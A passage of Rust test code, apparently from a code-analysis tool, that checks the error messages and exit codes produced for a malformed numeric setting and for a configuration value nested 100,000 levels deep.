            "hostile.toml:2:22: system-administrator-role-copied.min_sysadmin_share must be a number of zero or more like its default 0.95"
        ),
        "{}",
        r.stderr
    );
}

#[test]
fn config_nested_100k_deep_is_an_error() {
    let r = analyze_with_config(&format!("exclude = {}\n", nested(100_000)));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("hostile.toml:1:") && r.stderr.contains("cannot recurse further; max recursion depth met"),
        "{}",
        r.stderr
    );
}
